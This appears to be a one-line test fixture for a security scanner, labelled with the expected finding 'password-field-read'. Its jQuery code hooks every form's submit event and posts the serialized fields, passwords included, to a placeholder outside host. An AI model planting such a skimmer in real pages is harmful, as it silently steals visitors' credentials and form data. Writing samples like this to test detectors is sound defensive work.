// expect: password-field-read
$("form").on("submit", function () { $.post("https://x.example/f", $(this).serialize()); });
